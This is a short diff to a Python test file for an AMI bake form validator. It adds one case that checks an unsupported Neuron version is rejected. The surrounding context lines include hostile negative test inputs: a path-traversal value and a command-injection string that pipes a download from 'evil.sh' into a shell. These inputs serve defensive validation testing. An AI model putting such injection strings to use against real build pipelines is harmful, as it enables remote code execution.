@@ -111,6 +111,7 @@ def test_ami_bake_form_defaults_come_from_the_versions_file() -> None:
         ({"families": ["../../etc"]}, "unknown AMI families"),
         ({"nccl_version": "2.27; curl evil.sh | sh"}, "nccl_version: got"),
         ({"cuda_version": "x" * 40}, "cuda_version: got"),
+        ({"neuron_version": "2.24.0"}, "the neuron role pins no packages for Neuron 2.24.0; known: 2.25.0"),
         ({"retain_days": 0}, "retain_days: got 0"),
         ({"ami_name": "mine"}, "ami_name: unknown parameter"),
     ],
